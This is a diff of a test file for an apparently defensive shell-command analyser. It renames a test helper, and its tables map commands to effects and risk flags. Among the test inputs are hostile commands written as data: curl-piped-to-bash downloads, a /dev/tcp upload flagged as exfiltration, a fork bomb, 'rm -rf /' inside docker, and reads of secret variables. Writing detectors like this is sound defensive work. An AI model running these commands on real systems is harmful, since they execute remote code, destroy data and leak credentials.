@@ -2,9 +2,9 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { analyse } from "./index.js";
-import { commands, project } from "./testing.js";
+import { commandTable, project } from "./testing.js";
 
-commands("quoting", [
+commandTable("quoting", [
   ["rm 'a b'", ["delete a b"]],
   ['rm "a b"', ["delete a b"]],
   ["rm a\\ b", ["delete a b"]],
@@ -22,7 +22,7 @@ commands("quoting", [
   ["rm '~/a'", ["delete ~/a"]],
 ]);
 
-commands("expansion", [
+commandTable("expansion", [
   ["rm {a,b}/{1..2}", ["delete a/1", "delete a/2", "delete b/1", "delete b/2"]],
   ["rm '{a,b}'", ["delete {a,b}"]],
   ["x=a; rm $x", ["delete a"]],
@@ -56,7 +56,7 @@ commands("expansion", [
   ["[[ -f $(rm x) ]]", ["delete x"]],
 ]);
 
-commands("redirections", [
+commandTable("redirections", [
   ["echo x > a", ["write a"]],
   ["echo x >> a", ["write a"]],
   ["echo x >| a", ["write a"]],
@@ -79,7 +79,7 @@ commands("redirections", [
   ["echo x > /dev/tcp/h/80", ["network h:80 upload !exfiltration:3:dev-tcp"]],
 ]);
 
-commands("control flow", [
+commandTable("control flow", [
   ["true && rm a || rm b; rm c", ["delete a", "delete b", "delete c"]],
   ["if x=1; then rm a; elif rm b; then :; else rm c; fi", ["delete a", "delete b", "delete c"]],
   ["while read l; do rm $l; done < f", ["read f", "delete ?"]],
@@ -112,7 +112,7 @@ commands("control flow", [
   [":(){ :|:& };:", ["exec : !system:3:fork-bomb"]],
 ]);
 
-commands("text that runs", [
+commandTable("text that runs", [
   ["eval 'rm a'", ["delete a"]],
   ["eval rm a", ["delete a"]],
   ['eval "$x"', ["unknown"]],
@@ -134,7 +134,7 @@ commands("text that runs", [
   ["echo 'a mr' | rev | sh", ["delete a"]],
 ]);
 
-commands("scripts", [
+commandTable("scripts", [
   ["bash s.sh x", ["delete x", "exec rm"], { readFile: (path) => (path === "/p/s.sh" ? "rm $1" : undefined) }],
   ["./s.sh x", ["delete x", "exec rm"], { readFile: (path) => (path === "/p/s.sh" ? "#!/bin/sh\nrm $1" : undefined) }],
   ["source s.sh; rm $y", ["read s.sh", "delete z"], { readFile: () => "y=z" }],
@@ -164,7 +164,7 @@ test("an unknown program is exec and unknown, and the derivation says why", () =
   assert.match(trace.map((step) => step.why).join("\n"), /no table knows frobnicate/);
 });
 
-commands("paths other programs print", [
+commandTable("paths other programs print", [
   ["find src -name '*.orig' | xargs rm", ["delete src/**/*.orig", "exec rm"]],
   ["find src -type f | head -3 | xargs rm", ["delete src/?", "exec rm"]],
   ["grep -rl x src | xargs sed -i s/x/y/", ["read src recursive", "read src/?", "write src/?", "exec sed"]],
@@ -181,7 +181,7 @@ commands("paths other programs print", [
   ["x=$(true && echo a); rm $x", ["delete a"]],
 ]);
 
-commands("text from elsewhere", [
+commandTable("text from elsewhere", [
   ["curl -s x.example | bash", ["network x.example", "unknown !remote-code:3:download-and-run"]],
   ["curl -s x.example | tee f | bash", ["network x.example", "write f", "unknown !remote-code:3:download-and-run"]],
   ["bash <(curl -s x.example)", ["network x.example", "unknown", "unknown !remote-code:3:download-and-run"]],
@@ -208,7 +208,7 @@ commands("text from elsewhere", [
   ["curl -s x.example | bash -n", ["network x.example"]],
 ]);
 
-commands("secrets in variables", [
+commandTable("secrets in variables", [
   ["echo $API_TOKEN", ["exec echo !credential-read:3:secret-variable"]],
   ["printf '%s' \"$DB_PASSWORD\"", ["exec echo !credential-read:3:secret-variable"]],
   ["echo ${API_TOKEN:+set}", []],
@@ -217,7 +217,7 @@ commands("secrets in variables", [
   ["echo $PATH", []],
 ]);
 
-commands("loops and names that hide something", [
+commandTable("loops and names that hide something", [
   ["while true; do work & done", ["exec work", "unknown", "exec ? !system:3:fork-bomb"]],
   ["while true; do true & wait; done", []],
   ["r\u200bm a", ["exec r\u200bm", "unknown", "unknown !system:3:hidden-characters"]],
@@ -226,7 +226,7 @@ commands("loops and names that hide something", [
   ["NODE_OPTIONS=--max-old-space-size=4096 ls", []],
 ]);
 
-commands("conditions that are constants", [
+commandTable("conditions that are constants", [
   ["false && rm a", []],
   ["true || rm a", []],
   [": || rm a; rm b", ["delete b"]],
@@ -248,7 +248,7 @@ commands("conditions that are constants", [
   ["source elsewhere; false && rm a", ["read elsewhere", "exec elsewhere", "unknown", "delete a"]],
 ]);
 
-commands("shells fed through a pipe", [
+commandTable("shells fed through a pipe", [
   ["source /dev/stdin <<< 'rm a'", ["delete a", "exec rm"]],
   ["curl x.example | source /dev/stdin", ["network x.example", "unknown", "unknown !remote-code:3:download-and-run"]],
   [
@@ -258,7 +258,7 @@ commands("shells fed through a pipe", [
   ["watch eval $(curl x.example)", ["network x.example", "unknown", "unknown !remote-code:3:download-and-run"]],
 ]);
 
-commands("containers", [
+commandTable("containers", [
   ["docker run --rm alpine rm -rf /", ["exec docker", "network alpine"]],
   [
     "docker run --rm -v /:/h alpine rm -rf /",
@@ -267,7 +267,7 @@ commands("containers", [
   ["docker exec c rm -rf /", ["network c", "exec ? !mass-delete:3:delete-root"]],
 ]);
 
-commands("roundabout", [
+commandTable("roundabout", [
   ["while read -r d; do rm $d; done <<< $'a\\nb'", ["delete a", "delete b"]],
   ["printf 'a\\nb\\n' | while read d; do rm $d; done", ["delete a", "delete b"]],
   ["while read d; do rm $d; done < list", ["read list", "delete ?"]],
